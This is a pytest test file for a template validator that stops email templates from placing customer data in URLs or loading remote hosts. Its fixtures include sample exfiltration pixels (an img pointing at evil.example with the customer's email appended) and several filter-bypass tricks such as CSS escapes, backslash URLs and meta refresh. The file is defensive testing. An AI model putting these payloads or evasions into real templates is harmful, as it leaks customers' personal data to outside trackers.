"""Template data never goes into an address, and emails point only at allowed hosts."""

import pytest

from stafftemplates.template_urls import (
    remote_url_problems,
    stylesheet_url_problems,
    template_url_problems,
)

SHOP = ["shop.example.com"]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('<img src="https://evil.example/p.gif?e={{ customer.email }}">', "src attribute of <img>"),
        ("<img src={{ customer.email }}>", "src attribute of <img>"),
        ('<a href="/orders/{% firstof order.number %}">', "href attribute of <a>"),
        ('<form action="{{ shop.name }}">', "action attribute of <form>"),
        ('<td background="x{{ order.number }}.png">', "background attribute of <td>"),
        ('<img srcset="a.png 1x, {{ customer.email }} 2x">', "srcset attribute of <img>"),
        ('<p style="background: url(/x?{{ customer.email }})">', "style attribute of <p>: url()"),
        ("<style>p { background: url('{{ customer.email }}') }</style>", "url()"),
        ('<style>@import "/s.css?{{ customer.email }}";</style>', "@import"),
        ('<img {{ "src" }}="https://evil.example/">', "cannot write an attribute name"),
        (
            '<img {% if 1 %}src{% endif %}="https://x/?{{ customer.email }}">',
            "src attribute of <img>",
        ),
    ],
)
def test_template_data_in_an_address_is_refused(source, expected):
    problems = template_url_problems(source, allowed_hosts=None)
    assert len(problems) == 1, problems
    assert problems[0].startswith("Line 1: ")
    assert expected in problems[0]
    assert "template variable or tag" in problems[0]


def test_the_problem_names_its_line():
    source = "<p>Hej {{ customer.first_name }}</p>\n\n<img src='{{ customer.email }}'>"
    assert template_url_problems(source, allowed_hosts=None)[0].startswith("Line 3: ")


@pytest.mark.parametrize(
    "source",
    [
        '<p class="{% if order.total %}paid{% endif %}">{{ customer.full_name }}</p>',
        "<option {% if order.number %}selected{% endif %}>x</option>",
        '<img src="/static/logo.png" alt="{{ shop.name }}">',
        '<a href="https://shop.example.com/help">Help</a>',
        "<p>Your order {{ order.number }}</p>",
        "{% verbatim %}<img src='{{ x }}'>{% endverbatim %}",
    ],
)
def test_ordinary_templates_pass(source):
    assert template_url_problems(source, allowed_hosts=SHOP) == []


@pytest.mark.parametrize(
    "source",
    [
        '<img src="https://tracker.example/p.gif">',
        '<img src="//tracker.example/p.gif">',
        '<a href="HTTP://tracker.example/">x</a>',
        "<p style=\"background:url('https://tracker.example/x.png')\">",
        '<style>@import url("https://tracker.example/s.css");</style>',
    ],
)
def test_emails_point_only_at_allowed_hosts(source):
    [problem] = template_url_problems(source, allowed_hosts=SHOP)
    assert "“tracker.example”, which is not an allowed host" in problem
    # Documents fetch nothing remote at all, so they need no allow-list.
    assert template_url_problems(source, allowed_hosts=None) == []


def test_a_layout_stylesheet_is_checked_too():
    [problem] = stylesheet_url_problems(
        "body { background: url(https://tracker.example/b.png) }", allowed_hosts=SHOP
    )
    assert "tracker.example" in problem


def test_rendered_html_is_checked_for_remote_hosts():
    html = '<p><img src="https://tracker.example/p.gif?e=asa@example.com"></p>'
    assert remote_url_problems(html, allowed_hosts=SHOP)
    assert (
        remote_url_problems('<img src="https://shop.example.com/l.png">', allowed_hosts=SHOP) == []
    )


@pytest.mark.parametrize(
    "source",
    [
        # Each reached a tracker through the checks once: browsers read addresses loosely.
        '<div style="background:\\75 rl(https://tracker.example/c)">x</div>',  # CSS escape
        '<img src="https:\\\\tracker.example/p.gif">',  # backslashes as slashes
        '<img src="ht&#9;tps://tracker.example/p.gif">',  # a tab inside the scheme
        '<img src="https:tracker.example/p.gif">',  # no slashes after the scheme
        '<meta http-equiv="refresh" content="0;url=https://tracker.example/">',
        "<style>a { background: u\\72 l(https://tracker.example/) }</style>",
    ],
)
def test_addresses_are_read_the_way_browsers_read_them(source):
    [problem] = template_url_problems(source, allowed_hosts=SHOP)
    assert "“tracker.example”, which is not an allowed host" in problem


@pytest.mark.parametrize(
    "source",
    [
        '{{ "<img src=https:tracker.example/i?e="|add:customer.email|add:">"|safe }}',
        "{% autoescape off %}{{ customer.note }}{% endautoescape %}",
    ],
)
def test_emails_may_not_write_template_data_as_markup(source):
    [problem] = template_url_problems(source, allowed_hosts=SHOP)
    assert "not allowed in emails" in problem
    assert template_url_problems(source, allowed_hosts=None) == []  # documents fetch nothing
